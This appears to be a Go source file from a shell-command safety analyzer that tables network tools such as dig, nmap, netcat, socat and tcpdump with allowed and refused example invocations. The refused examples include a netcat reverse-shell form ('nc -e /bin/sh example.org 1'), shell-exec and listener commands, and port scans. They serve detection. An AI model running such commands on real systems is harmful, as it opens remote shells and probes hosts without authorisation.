package program

import (
	"strings"

	"github.com/bashguard/bashguard/analyzer/wordlist"
)

// Programs that ask another host something, or talk to it. Each call connects; the tables say to whom, and which files take part.
var reachRows = []*Row{
	&Row{
		Names: "dig", Summary: "ask name servers", Manual: "dig(1), bind 9.18", Syntax: Permute,
		Options: "-4 -6 -b= -c= -f=!connect -h$ -i -k=read -m -p= -q=connect -r -t= -u -v$ -x=connect -y=", Judge: judgeDig,
		Allowed: []string{"dig -v", "dig -h"},
		Refused: []string{"dig example.org", "dig @192.0.2.1 example.org MX +short", "dig -x 192.0.2.1", "dig -f names.txt", "dig"},
	},
	&Row{
		Names: "host", Summary: "ask name servers", Manual: "host(1), bind 9.18", Syntax: Permute,
		Options: "-a -A -C -d -l -n -r -s -T -U -w -v -V$ -4 -6 -c= -N= -p= -R= -t= -W= -m=", Operands: "connect*", Judge: func(in *Invocation) { always(Connect, "asks name servers")(in) },
		Allowed: []string{"host -V"},
		Refused: []string{"host example.org", "host -t mx example.org 192.0.2.1"},
	},
	&Row{
		Names: "nslookup delv mdig drill kdig dog", Summary: "ask name servers", Manual: "nslookup(1), delv(1), bind 9.18; drill(1), 1.8; dog --help, 0.1", Syntax: Plain,
		Judge:   func(in *Invocation) { connectsOperands("-version -v -V --version -h --help")(in) },
		Allowed: []string{"nslookup -version"},
		Refused: []string{"nslookup example.org", "nslookup -type=mx example.org 192.0.2.1", "nslookup"},
	},
	&Row{
		Names: "ping ping4 ping6 fping arping", Summary: "ask whether a host answers", Manual: "ping(8), iputils 20221126; ping(8), macOS 14", Syntax: Permute,
		Options:  "-4 -6 -a -A -b -B -c,--count= -C -d -D -e= -f -F= -h,--help$ -i= -I= -l= -L -m= -M= -n -N= -O -o -p= -q -Q= -r -R -s= -S= -t= -T= -U -v -V,--version$ -w= -W=",
		Operands: "connect*", Judge: func(in *Invocation) { always(Connect, "asks whether a host answers")(in) },
		Allowed: []string{"ping -V"},
		Refused: []string{"ping -c 1 example.org", "ping localhost", "fping -c1 example.org"},
	},
	&Row{
		Names: "traceroute traceroute6 tracepath tracepath6 mtr nping hping3 tcptraceroute", Summary: "show the way to a host", Syntax: Permute,
		Manual:  "traceroute(8), 2.1; tracepath(8), iputils 20221126; mtr(8), 0.95",
		Options: "--help$ -V,--version$ -4 -6 -I -T -n -b -r -w -c= -q= -m= -p= -f= -i= -s=", Operands: "connect text", Judge: func(in *Invocation) { always(Connect, "sends packets to a host")(in) },
		Allowed: []string{"mtr --version"},
		Refused: []string{"traceroute example.org", "mtr -r -c 1 example.org"},
	},
	&Row{
		Names: "whois", Summary: "ask who owns a name", Manual: "whois(1), 5.5", Syntax: Plain, Judge: func(in *Invocation) { connectsOperands("--help --version")(in) },
		Allowed: []string{"whois --version"},
		Refused: []string{"whois example.org"},
	},
	&Row{
		// -oN and its kin write files, --script runs scripts.
		Names: "nmap zenmap masscan nbtscan arp-scan", Summary: "look for hosts and open ports", Manual: "nmap(1), 7.93", Syntax: Single,
		Options:  "-V$ -version$ -h$ -help$ -sn -sS -sT -sU -sV -sL -O -A -Pn -n -v -p= -iL=read -oN=write -oX=write -oS=write -oG=write -oA=write -script=!run -T4 -F -open",
		Operands: "connect*", Judge: func(in *Invocation) { always(Connect, "looks for hosts and open ports")(in) },
		Allowed: []string{"nmap --version"},
		Refused: []string{"nmap -sn 192.0.2.0/24", "nmap -oN out localhost", "nmap --script x localhost"},
	},
	&Row{
		// With -e or -c it gives the connection to a program, with -l it waits for one.
		Names: "nc netcat ncat nc.openbsd nc.traditional", Summary: "talk to a host, or listen", Manual: "nc(1), OpenBSD 1.219; ncat(1), nmap 7.93", Syntax: Permute,
		Options: "-4 -6 -b -C -D -d -F -k -l -N -n -r -S -t -U -u -v -Z -z -I= -i= -M= -m= -O= -P= -p= -q= -s= -T= -V= -W= -w= -X= -x=connect -h,--help$ --version$ " +
			"-e,--exec=!run -c,--sh-exec=!run -o,--output=write --ssl --listen --proxy=connect",
		Operands: "connect text*", Judge: func(in *Invocation) { always(Connect, "connects to a host, or waits for one")(in) },
		Allowed: []string{"nc -h", "ncat --version"},
		Refused: []string{"nc -z localhost 80", "nc -l 1234", "nc -e /bin/sh example.org 1", "ncat --sh-exec ls example.org 1"},
	},
	&Row{
		Names: "telnet ftp lftp tftp tnftp socat rlogin rsh rdesktop xfreerdp vncviewer mosh iperf iperf3 snmpwalk snmpget ldapsearch smbclient mount.cifs showmount " +
			"mosquitto_pub mosquitto_sub websocat grpcurl speedtest ab wrk hey siege ntpdate sntp chronyc cloudflared ngrok",
		Summary: "talk to a host", Manual: "telnet(1), inetutils 2.4; ftp(1), tnftp; lftp(1), 4.9; socat(1), 1.7; iperf3(1), 3.12", Syntax: Plain,
		Judge:   func(in *Invocation) { connectsOperands("--version --help")(in) },
		Allowed: []string{"telnet --version"},
		Refused: []string{"telnet example.org 25", "ftp example.org", "socat - EXEC:ls", "iperf3 -s"},
	},
	&Row{
		// Capturing needs rights and a device; a file of packets is only read, unless -w or -z are there too.
		Names: "tcpdump", Summary: "show packets", Manual: "tcpdump(8), 4.99", Syntax: Permute,
		Options: "-A -b -d -D,--list-interfaces$ -e -f -F=read -H -h,--help$ -K -l -L -n -N -O -p -q -r=read -s,--snapshot-length= -S -t -T= -u -U -v -V=read -x -X -# --number --count -c= " +
			"-E= -M= -m=read -y= --version$ --micro --nano --time-stamp-precision= -B= -i,--interface= -j= -Q= -C= -G= -W= -Z= -w=write -z=!run --print --immediate-mode -I -J",
		Operands: "text*", Judge: func(in *Invocation) { needs("captures packets", "-r")(in) },
		Allowed: []string{"tcpdump -nn -r x.pcap port 80", "tcpdump -D", "tcpdump --version"},
		Refused: []string{"tcpdump -i eth0", "tcpdump -r x.pcap -w y.pcap", "tcpdump -r x -z gzip", "tcpdump"},
	},
	&Row{
		Names: "tshark wireshark dumpcap iftop nethogs nload bmon vnstat", Summary: "show packets", Manual: "tshark(1), 4.0; iftop(8), 1.0; nethogs(8), 0.8", Syntax: Strict,
		Options: "-v$ --version$ -h$ --help$", Always: &Effect{Kind: Change, Message: "captures packets, or writes what it found"},
		Allowed: []string{"tshark --version"},
		Refused: []string{"tshark -i eth0", "iftop"},
	},
}

// dnsTypes are the types and classes that may stand beside a name.
const dnsTypes = wordlist.List("A AAAA ANY AXFR CAA CNAME DNSKEY DS HTTPS IN CH HS MX NAPTR NS PTR SOA SRV SSHFP SVCB TLSA TXT")

// judgeDig connects to the servers, or asks them for names.
func judgeDig(in *Invocation) {
	for _, w := range in.Operands {
		switch {
		case strings.HasPrefix(w.Text, "+"), w.Open == Fixed && dnsTypes.Has(strings.ToUpper(w.Text)):
		case strings.HasPrefix(w.Text, "@"):
			in.effectOf(hostRole, w.After(1))
		default:
			in.effectOf(hostRole, w)
		}
	}
	if len(in.Effects) == 0 {
		in.Effect(Connect, in.Words[0], "asks name servers")
	}
}

// always makes a Judge that adds an effect to calls that have no other of its kind.
func always(kind Kind, message string) func(*Invocation) {
	return func(in *Invocation) {
		for _, e := range in.Effects {
			if e.Kind == kind {
				return
			}
		}
		in.Effect(kind, in.Words[0], message)
	}
}

// connectsOperands makes a Judge for a program whose operands may all name hosts, unless one of the words is its only argument.
func connectsOperands(words string) func(*Invocation) {
	harmless := strings.Fields(words)
	return func(in *Invocation) {
		if len(in.Operands) == 1 && in.Operands[0].Is(harmless...) {
			return
		}
		for _, w := range in.Operands {
			if !w.MayBeOption() {
				in.effectOf(hostRole, w)
			}
		}
		always(Connect, "talks to another host")(in)
	}
}
